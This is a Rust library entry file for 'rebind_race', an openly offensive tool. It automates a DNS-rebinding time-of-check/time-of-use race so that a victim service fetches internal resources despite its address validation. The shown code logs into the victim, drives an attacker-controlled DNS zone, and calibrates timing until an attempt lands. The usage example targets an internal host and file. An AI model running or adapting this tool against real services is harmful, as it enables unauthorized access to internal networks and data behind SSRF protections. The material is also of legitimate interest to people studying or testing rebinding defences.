//! rebind_race library: adaptive DNS-rebinding TOCTOU race
//!
//! This library calibrates and runs a DNS-rebinding race against a service that
//! validates a URL's resolved address ("check") before fetching it ("use"). Each
//! attempt primes the victim resolver with a negative answer, flips the record on
//! an attacker-controlled zone, waits a calibrated delay and triggers the fetch.
//! Misses are classified from the zone's query log and move the delay by a fixed
//! step until an attempt lands.
//!
//! # Example
//!
//! ```no_run
//! use rebind_race::{Config, run_race};
//!
//! # #[tokio::main]
//! # async fn main() -> Result<(), Box<dyn std::error::Error>> {
//! let config = Config {
//!     server_root: "http://10.0.0.5".to_string(),
//!     target_path: "internal/logo.png".to_string(),
//!     max_attempts: Some(50),
//!     ..Default::default()
//! };
//!
//! let report = run_race(config).await?;
//! println!("Added {} after {} attempts", report.result.file_name, report.attempts);
//! # Ok(())
//! # }
//! ```
//!
//! # Requirements
//!
//! This library requires a Tokio runtime. Use `#[tokio::main]` in your application
//! or ensure you're calling library functions within an async context.

mod app;
pub mod config;
pub mod dns_control;
pub mod error_handling;
pub mod initialization;
pub mod race;
mod utils;
pub mod victim;

// Re-export public API
pub use config::{ColorMode, Config, LogFormat, LogLevel};
pub use error_handling::{DnsControlError, RaceError, VictimError};
pub use race::RaceReport;
pub use run::run_race;
pub use victim::FetchResult;

// Internal run module (wires configuration, clients and the controller)
mod run {
    use anyhow::{bail, Context, Result};
    use log::info;
    use url::Url;

    use crate::app::print_race_statistics;
    use crate::config::Config;
    use crate::dns_control::DnsControlClient;
    use crate::error_handling::RaceError;
    use crate::initialization::{init_dns_client, init_victim_client};
    use crate::race::{
        RaceController, RaceLimits, RaceReport, RaceSettings, SleepCalibration, TargetEndpoint,
    };
    use crate::victim::{VictimClient, VictimCredentials};

    /// Runs the race with the provided configuration.
    ///
    /// Logs in once, then runs attempts until one lands, a fatal condition
    /// occurs, or a configured bound is hit.
    ///
    /// # Arguments
    ///
    /// * `config` - Victim, DNS control plane and calibration settings
    ///
    /// # Returns
    ///
    /// A [`RaceReport`] with the added file and calibration details.
    ///
    /// # Errors
    ///
    /// Returns an error if a base URL does not parse, the zone suffix is empty,
    /// client initialization or login fails, or the run hits any [`RaceError`].
    /// The underlying `RaceError` can be recovered with `anyhow::Error::downcast_ref`.
    pub async fn run_race(config: Config) -> Result<RaceReport> {
        Url::parse(&config.server_root)
            .with_context(|| format!("Invalid --server-root {:?}", config.server_root))?;
        Url::parse(&config.dns_api_url)
            .with_context(|| format!("Invalid --dns-api-url {:?}", config.dns_api_url))?;
        if config.dns_zone_suffix.trim_start_matches('.').is_empty() {
            bail!("Invalid --dns-zone-suffix {:?}", config.dns_zone_suffix);
        }

        let dns_http = init_dns_client(&config).context("Failed to initialize DNS control client")?;
        let victim_http =
            init_victim_client(&config).context("Failed to initialize victim client")?;

        let dns = DnsControlClient::new(dns_http, config.dns_api_url.clone());
        let victim = VictimClient::new(
            victim_http,
            config.server_root.clone(),
            VictimCredentials {
                username: config.username.clone(),
                password: config.password.clone(),
            },
        );

        info!("Logging in to {}", config.server_root);
        victim.login().await.map_err(RaceError::Login)?;

        let settings = RaceSettings {
            endpoint: TargetEndpoint::new(config.target_path.clone(), config.target_port),
            payload_size: config.payload_size_bytes(),
            zone_suffix: config.dns_zone_suffix.clone(),
            limits: RaceLimits {
                max_attempts: config.max_attempts,
                max_duration: config.max_duration(),
            },
            release_records: config.release_records,
        };
        let calibration = SleepCalibration::new(config.start_sleep(), config.sleep_step());

        let controller = RaceController::new(dns, victim, settings);
        let report = controller.run_until_success(calibration).await?;
        print_race_statistics(&report);
        Ok(report)
    }
}
